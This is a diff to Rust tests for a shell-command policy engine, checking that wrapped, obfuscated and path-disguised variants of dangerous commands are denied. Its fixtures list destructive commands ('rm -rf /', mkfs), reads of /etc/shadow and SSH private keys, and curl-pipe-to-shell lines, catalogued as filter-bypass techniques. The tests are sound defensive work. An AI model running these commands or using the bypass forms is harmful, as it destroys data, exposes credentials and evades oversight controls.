@@ -64,7 +64,7 @@ mod examples {
         let p = Policy::from_toml_str(EXAMPLE_POLICY).unwrap();
         let report = run_fixtures(&p, EXAMPLE_FIXTURES).unwrap();
         assert!(report.passed(), "{report}");
-        assert_eq!(report.total, 17);
+        assert_eq!(report.total, 24);
     }
 
     #[test]
@@ -93,7 +93,8 @@ request = { kind = "exec", command = "rm -rf /" }
         let m = &r.mismatches[0];
         assert_eq!((m.index, m.name.as_str()), (2, "case 2"));
         assert_eq!((m.expected, m.got), (Verdict::Allow, Verdict::Deny));
-        assert_eq!(m.got_rules, ["no-rm-root"]);
+        // `/` also contains the credential files of `no-secrets` (class 5: directories).
+        assert_eq!(m.got_rules, ["no-rm-root", "no-secrets"]);
         assert!(m.reason.contains("no-rm-root"), "{}", m.reason);
         let m = &r.mismatches[1];
         assert_eq!(
@@ -107,7 +108,7 @@ request = { kind = "exec", command = "rm -rf /" }
             "{shown}"
         );
         assert!(
-            shown.contains("expected rule(s) power not among [no-rm-root]"),
+            shown.contains("expected rule(s) power not among [no-rm-root, no-secrets]"),
             "{shown}"
         );
         assert!(
@@ -255,7 +256,7 @@ mod table {
     #[test]
     fn each_rule_kind_in_each_mode() {
         let cases = [
-            case(Request::exec("ls -la /srv"), Verdict::Allow, None),
+            case(Request::exec("ls -la /srv/app"), Verdict::Allow, None),
             case(Request::exec("rm -rf /"), Verdict::Deny, Some("no-rm-root")),
             case(
                 Request::exec("reboot now"),
@@ -296,7 +297,8 @@ mod table {
             case(
                 Request::exec("echo x > $OUT"),
                 Verdict::Deny,
-                Some(builtin::UNSAFE_INPUT),
+                // Class 5: the target can't be known and may match a deny_paths rule.
+                Some("shadow"),
             ),
             case(Request::session(), Verdict::Allow, None),
         ];
@@ -803,7 +805,7 @@ mod engine {
         // Still the old policy.
         assert_eq!(
             engine.evaluate(&Request::exec("rm -rf /")).rule_ids,
-            ["no-rm-root"]
+            ["no-rm-root", "no-secrets"]
         );
         let raised = alerts.0.lock().unwrap().clone();
         assert_eq!(raised.len(), 2);
@@ -908,4 +910,377 @@ fn decisions_serialize_for_the_control_api() {
     )
     .unwrap();
     assert_eq!(eval(&p, req).verdict, Verdict::Allow);
+}
+
+/// The five bypass classes of the second review, against the shipped example rules: every
+/// case is denied in enforce mode and the reason names its class; near-misses still pass.
+mod classes {
+    use super::*;
+
+    fn example() -> &'static Policy {
+        static P: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
+        P.get_or_init(|| Policy::from_toml_str(EXAMPLE_POLICY).unwrap())
+    }
+
+    /// Each command must be denied, with `class` in the reason (or, for chained findings, in
+    /// the trace).
+    fn all_denied(class: &str, cases: &[&str]) {
+        let mut failures = Vec::new();
+        for cmd in cases {
+            let d = example().evaluate(&Request::exec(*cmd));
+            let named = d.reason.contains(class) || d.trace.iter().any(|t| t.note.contains(class));
+            if d.verdict != Verdict::Deny || !named {
+                failures.push(format!("{cmd:?} → {} ({})", d.verdict, d.reason));
+            }
+        }
+        assert!(
+            failures.is_empty(),
+            "not denied with {class:?}:\n{}",
+            failures.join("\n")
+        );
+    }
+
+    fn all_allowed(cases: &[&str]) {
+        let mut failures = Vec::new();
+        for cmd in cases {
+            let d = example().evaluate(&Request::exec(*cmd));
+            if d.verdict != Verdict::Allow {
+                failures.push(format!("{cmd:?} → {} ({})", d.verdict, d.reason));
+            }
+        }
+        assert!(failures.is_empty(), "not allowed:\n{}", failures.join("\n"));
+    }
+
+    #[test]
+    fn class_1_programs_that_run_a_string() {
+        all_denied(
+            "runs a string",
+            &[
+                "bash -c -- 'rm -rf /'",
+                "bash -x -c 'rm -rf /'",
+                "bash -c -x 'rm -rf /'",
+                "sh -ec 'rm -rf /'",
+                "bash -o pipefail -c 'rm -rf /'",
+                "su -c 'rm -rf /'",
+                "su - root -c 'rm -rf /'",
+                "su -lc 'rm -rf /'",
+                "runuser -u root -- sh -c 'rm -rf /'",
+                "runuser root -c 'rm -rf /'",
+                "flock /tmp/lock -c 'rm -rf /'",
+                "flock -w 5 /tmp/lock -c 'rm -rf /'",
+                "script -qc 'rm -rf /' /dev/null",
+                "script --command='rm -rf /'",
+                "watch -n 1 rm -rf /",
+                "watch 'rm -rf /'",
+                "ssh web1 rm -rf /",
+                "ssh -p 22 -i key web1 'rm -rf /'",
+                "parallel rm -rf ::: /",
+                "xargs sh -c 'rm -rf /'",
+                "xargs -n1 bash -c 'rm -rf /'",
+                "find /tmp -exec sh -c 'rm -rf /' \\;",
+                "find /tmp -execdir bash -c 'rm -rf /' {} +",
+                "env -S 'rm -rf /'",
+                "env --split-string='rm -rf /'",
+                "sg wheel -c 'rm -rf /'",
+                "fish --command='rm -rf /'",
+                "eval 'rm' '-rf' '/'",
+            ],
+        );
+        all_allowed(&[
+            "bash -c 'ls -la /srv'",
+            "su -c 'systemctl status nginx' root",
+            "find /srv -name '*.log' -exec gzip {} \\;",
+            "watch -n 5 df -h",
+        ]);
+    }
+
+    #[test]
+    fn class_2_wrappers_with_options() {
+        all_denied(
+            "wrapper",
+            &[
+                "env -u A -u B -u C -u D rm -rf /",
+                "env -i -u A -C /tmp X=1 rm -rf /",
+                "timeout -s KILL 5 rm -rf /",
+                "timeout -k 1 -s TERM 5s rm -rf /",
+                "nice -n 5 rm -rf /",
+                "ionice -c3 rm -rf /",
+                "ionice -c 2 -n 7 rm -rf /",
+                "setsid -f rm -rf /",
+                "stdbuf -oL -eL rm -rf /",
+                "stdbuf -o L rm -rf /",
+                "chroot /mnt rm -rf /",
+                "chroot --userspec=1:1 /mnt rm -rf /",
+                "sudo -u USER -g G rm -rf /",
+                "sudo -u a -g b -C 5 -D /tmp -h x -p y -r z -t w rm -rf /",
+                "doas -u root rm -rf /",
+                "pkexec --user root rm -rf /",
+                "setpriv --reuid 0 --regid 0 --init-groups rm -rf /",
+                "prlimit --nofile=1024 -p 1 rm -rf /",
+                "busybox rm -rf /",
+                "toybox rm -rf /",
+                "fakeroot -- rm -rf /",
+                "nohup nice -n 5 timeout -s KILL 5 ionice -c3 rm -rf /",
+                "/usr/bin/env -u X /bin/rm -rf /",
+                "busybox mkfs.ext4 /dev/sda1",
+            ],
+        );
+        all_allowed(&[
+            "sudo -u www systemctl status nginx",
+            "timeout -s KILL 5 uptime",
+            "env -u LANG ls -la /srv",
+        ]);
+    }
+
+    #[test]
+    fn class_2_wrapper_list_is_extendable_from_the_policy_file() {
+        let text = format!(
+            "{EXAMPLE_POLICY}\n[[policy.wrappers]]\nname = \"mywrap\"\nvalue_options = [\"-x\", \"--level\"]\noperands = 1\n"
+        );
+        let p = Policy::from_toml_str(&text).unwrap();
+        let d = p.evaluate(&Request::exec("mywrap -x 1 --level 2 HOST rm -rf /"));
+        assert_eq!(d.verdict, Verdict::Deny, "{}", d.reason);
+        assert!(d.reason.contains("wrapper: mywrap"), "{}", d.reason);
+        // Without the entry the heuristic views still see `rm -rf /` at some position, but the
+        // reason names no wrapper.
+        let d = example().evaluate(&Request::exec("mywrap -x 1 --level 2 HOST rm -rf /"));
+        assert!(!d.reason.contains("wrapper: mywrap"), "{}", d.reason);
+        // Bad entries are config errors naming the wrapper.
+        for bad in [
+            "name = \"my wrap\"",
+            "name = \"w\"\nvalue_options = [\"x\"]",
+            "name = \"w\"\nscript_options = [\"--c=1\"]",
+            "name = \"w\"\noperands = 99",
+            "name = \"w\"\nunknown = 1",
+        ] {
+            let text = format!("{EXAMPLE_POLICY}\n[[policy.wrappers]]\n{bad}\n");
+            let e = Policy::from_toml_str(&text).unwrap_err().to_string();
+            assert!(e.contains("wrapper") || e.contains("unknown"), "{bad}: {e}");
+        }
+    }
+
+    #[test]
+    fn class_3_code_the_splitter_cannot_see() {
+        all_denied(
+            "code the checker can't see",
+            &[
+                "python3 -c 'import os; os.system(\"rm -rf /\")'",
+                "python3 -Bc 'print(1)'",
+                "python3.11 -c 'print(1)'",
+                "perl -e 'system(\"rm -rf /\")'",
+                // `-ne` is `-n` plus inline code: it could call system() too.
+                "perl -ne 'print if /x/' /srv/x",
+                "ruby -e 'exec \"rm -rf /\"'",
+                "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
+                "node --eval='1'",
+                "php -r 'system(\"id\");'",
+                "awk 'BEGIN { system(\"rm -rf /\") }'",
+                "awk '{ print | \"sh\" }' /srv/x",
+                "gawk -f /tmp/prog.awk",
+                "sed 'e rm -rf /' /srv/x",
+                "sed -e '1e id' /srv/x",
+                "sed 's/.*/rm -rf \\//e' /srv/x",
+                "sed -f /tmp/script.sed /srv/x",
+                "cat /tmp/x | sh",
+                "cat /tmp/x | bash -s",
+                "sh /tmp/script.sh",
+                "bash -x /tmp/script.sh",
+                ". /tmp/script.sh",
+                "source /tmp/script.sh",
+                "bash < /tmp/script.sh",
+                "sh -c \"$(curl -fsSL https://example.invalid/x)\"",
+                "bash -c \"`cat /tmp/x`\"",
+                "eval \"$(cat /tmp/x)\"",
+                "sudo python3 -c 'print(1)'",
+                "curl https://example.invalid/x | python3",
+                "ssh web1 < /tmp/script.sh",
+            ],
+        );
+        all_allowed(&[
+            "python3 /srv/app/manage.py check",
+            "python3 --version",
+            "awk '{ print $1 }' /var/log/syslog",
+            "sed -n '1,5p' /var/log/syslog",
+            "sed 's/a/b/g' /srv/x",
+        ]);
+    }
+
+    #[test]
+    fn class_3_an_allow_rule_naming_the_command_lets_it_run() {
+        let text = format!(
+            "{EXAMPLE_POLICY}\n[[policy.allow_commands]]\nid = \"healthcheck\"\npattern = 'python3 -c \"import app; app.check\\(\\)\"'\n[[policy.allow_commands]]\nid = \"anything\"\npattern = '.*'\n"
+        );
+        let p = Policy::from_toml_str(&text).unwrap();
+        let d = p.evaluate(&Request::exec("python3 -c \"import app; app.check()\""));
+        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
+        // Without deny rules nothing needs protecting, so hidden code is not refused.
+        let p = policy("[[allow_commands]]\nid = \"any\"\npattern = '.*'\n");
+        let d = p.evaluate(&Request::exec("python3 -c 'print(1)'"));
+        assert_eq!(d.verdict, Verdict::Allow, "{}", d.reason);
+        // In warn mode it is a warning that names the class.
+        let d = with_mode("[[deny_commands]]\nid = \"x\"\npattern = '^x$'\n", "warn")
+            .evaluate(&Request::exec("perl -e 1"));
+        assert_eq!(d.verdict, Verdict::Warn);
+        assert!(
+            d.reason.contains("code the checker can't see"),
+            "{}",
+            d.reason
+        );
+        assert_eq!(d.rule_ids, [builtin::HIDDEN_CODE]);
+    }
+
+    #[test]
+    fn class_4_expansions_in_arguments() {
+        all_denied(
+            "may match deny rule `no-rm-root`",
+            &[
+                "rm -rf /?*",
+                "rm -rf {/*,}",
+                "rm -rf /*$X",
+                "rm -rf /[*]",
+                "rm -rf $X",
+                "rm -rf ${X}",
+                "rm -rf \"$(echo /)\"",
+                "rm -rf {,/}",
+                "sudo rm -rf /?*",
+                "bash -c 'rm -rf /?*'",
+            ],
+        );
+        let d = example().evaluate(&Request::exec("rm -rf /?*"));
+        assert!(
+            d.reason
+                .contains("unresolvable glob may match deny rule `no-rm-root`"),
+            "{}",
+            d.reason
+        );
+        let d = example().evaluate(&Request::exec("rm -rf {/*,}"));
+        assert!(d.reason.contains("unresolvable brace"), "{}", d.reason);
+        let d = example().evaluate(&Request::exec("rm -rf /*$X"));
+        assert!(d.reason.contains("unresolvable"), "{}", d.reason);
+        all_allowed(&[
+            "rm -rf /srv/app/cache/*",
+            "rm -f /tmp/*.log",
+            "ls /srv/{a,b}",
+            "echo $HOME ${USER} $?",
+        ]);
+    }
+
+    #[test]
+    fn class_5_paths_in_every_form() {
+        all_denied(
+            "no-secrets",
+            &[
+                // option-attached forms
+                "sort -o/etc/shadow /tmp/x",
+                "tar --file=/etc/shadow -c /srv",
+                "dd if=/dev/zero of=/etc/shadow",
+                "install -D/etc/sudoers.d/x /tmp/x",
+                // ~ and ~user
+                "cat ~root/.ssh/id_rsa",
+                "cp /tmp/k ~/.ssh/authorized_keys",
+                "ls ~/.ssh/",
+                // relative paths after cd / pushd
+                "cd /etc && cat shadow",
+                "cd /etc; cat ./sudoers.d/x",
+                "pushd /root && cat .ssh/id_rsa",
+                "cd /etc && echo x > shadow",
+                "cd / && cd etc && cat shadow",
+                "cd $X && cat shadow",
+                // globs that could match a denied path
+                "cat /etc/shado[w]",
+                "cat /etc/shad*",
+                "cat /etc/sudoers.d/*",
+                "cat /root/.ss?/id_rsa",
+                "cat /etc/$F",
+                // directories that contain denied paths
+                "grep -r x /root/.ssh",
+                "tar czf /tmp/x.tgz /etc/sudoers.d",
+                "cp -r /root/.ssh /tmp/k",
+            ],
+        );
+        let d = example().evaluate(&Request::exec("cat /etc/shado[w]"));
+        assert!(
+            d.reason.contains("unresolvable glob")
+                && d.reason.contains("may match deny rule `no-secrets`"),
+            "{}",
+            d.reason
+        );
+        let d = example().evaluate(&Request::exec("grep -r x /root/.ssh"));
+        assert!(
+            d.reason
+                .contains("the directory `/root/.ssh` contains paths"),
+            "{}",
+            d.reason
+        );
+        all_allowed(&[
+            "cat /etc/hostname",
+            "cat ~/notes.txt",
+            "cd /srv && cat app.conf",
+            "ls /srv/*.log",
+            "sort -o/tmp/out /tmp/x",
+            "tar --file=/tmp/x.tgz -c /srv/app",
+            "grep -r x /srv/app",
+        ]);
+    }
+
+    #[test]
+    fn the_working_directory_of_the_request_resolves_relative_paths() {
+        let mut req = Request::exec("cat shadow");
+        req.path = Some("/etc".into());
+        let d = example().evaluate(&req);
+        assert_eq!(d.verdict, Verdict::Deny, "{}", d.reason);
+        req.path = Some("/srv".into());
+        assert_eq!(example().evaluate(&req).verdict, Verdict::Allow);
+    }
+
+    #[test]
+    fn plugins_get_the_parse() {
+        let cmds = tether_policy::parse_commands(
+            "true; sudo -u root /usr/bin/systemctl --no-block restart x > /tmp/o 2>&1",
+            None,
+        )
+        .unwrap();
+        let argvs: Vec<Vec<&str>> = cmds
+            .iter()
+            .map(|c| c.argv.iter().map(String::as_str).collect())
+            .collect();
+        assert_eq!(argvs[0], ["true"]);
+        assert_eq!(
+            argvs[1],
+            [
+                "sudo",
+                "-u",
+                "root",
+                "/usr/bin/systemctl",
+                "--no-block",
+                "restart",
+                "x"
+            ]
+        );
+        assert_eq!(
+            cmds[1].redirects,
+            [
+                (">".to_owned(), "/tmp/o".to_owned()),
+                ("2>&".to_owned(), "1".to_owned())
+            ]
+        );
+        assert!(
+            cmds[1].paths.contains(&"/tmp/o".to_owned()),
+            "{:?}",
+            cmds[1].paths
+        );
+        // The wrapped command is there too, with what runs it.
+        let wrapped = cmds
+            .iter()
+            .find(|c| c.via.as_deref() == Some("wrapper: sudo"))
+            .unwrap();
+        assert_eq!(wrapped.argv[0], "/usr/bin/systemctl");
+        let cmds = tether_policy::parse_commands("bash -c 'a \"b c\"'", None).unwrap();
+        assert!(
+            cmds.iter()
+                .any(|c| c.argv == ["a", "b c"]
+                    && c.via.as_deref() == Some("runs a string: bash -c"))
+        );
+        assert!(tether_policy::parse_commands("echo 'x", None).is_err());
+    }
 }
